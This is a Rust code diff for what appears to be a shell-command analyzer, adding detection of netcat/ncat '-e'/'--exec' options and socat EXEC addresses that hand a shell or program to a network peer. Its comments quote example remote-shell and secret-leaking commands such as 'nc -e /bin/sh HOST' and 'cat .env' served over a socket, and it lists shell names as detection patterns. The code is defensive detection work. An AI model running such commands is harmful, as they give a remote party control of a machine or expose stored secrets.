@@ -6,6 +6,9 @@ use super::super::host::{clean_host, url_host};
 use super::super::options::{is_digits, parse_opts, Arg};
 use crate::flow::shell::options::valued_long::NC_LONG;
 
+/// Shells: handed to a socket, they give the peer the machine.
+const SHELL_NAMES: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish", "pwsh", "powershell"];
+
 impl Analyzer {
     pub(super) fn nc(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
         let p = parse_opts(args, "pswiXxecqIOTVMmWPGgo", NC_LONG, false);
@@ -22,6 +25,14 @@ impl Analyzer {
             if !(is_digits(&a.text) || listen && a.text.bytes().all(|b| b.is_ascii_digit() || b == b'-')) {
                 nu.hosts.extend(clean_host(&a.host));
             }
+        }
+        // `nc -e /bin/sh HOST`, `ncat -l --exec 'cat .env'`: a program's input and output are
+        // handed to the peer (a shell is the whole machine).
+        for line in p.vals(&["-e", "-c", "--exec", "--sh-exec", "--lua-exec"]) {
+            let inner = crate::flow::shell::analyze(&line.text);
+            nu.stdin_from.extend(inner.read_paths.iter().cloned());
+            self.sub_string(&line.text, None, ctx.depth + 1);
+            self.facts.unresolved.push(format!("a program served to the network ({name} -e)"));
         }
         self.push_net(ctx, nu, true);
     }
@@ -70,7 +81,7 @@ impl Analyzer {
                         nu.hosts.extend(part(rest_h, n));
                     }
                 }
-                "FILE" | "OPEN" | "GOPEN" | "CREATE" => {
+                "FILE" | "OPEN" | "GOPEN" | "CREATE" | "PIPE" => {
                     let path = rest_t.split(',').next().unwrap_or("");
                     if ty == "CREATE" {
                         self.write_arg(&Arg::lit(path), ctx);
@@ -81,6 +92,10 @@ impl Analyzer {
                 "EXEC" | "SYSTEM" => {
                     // `EXEC:'cat .env'`: what the command prints goes to the other address.
                     let line = rest_t.split(",pty").next().unwrap_or(rest_t).trim_matches(['\'', '"']).to_owned();
+                    let program = line.split_whitespace().next().unwrap_or("");
+                    if SHELL_NAMES.contains(&program.rsplit('/').next().unwrap_or(program)) {
+                        self.facts.unresolved.push("a shell handed to the network (socat EXEC)".into());
+                    }
                     let inner = crate::flow::shell::analyze(&line);
                     nu.stdin_from.extend(inner.read_paths.iter().cloned());
                     self.sub_string(&line, None, ctx.depth + 1);
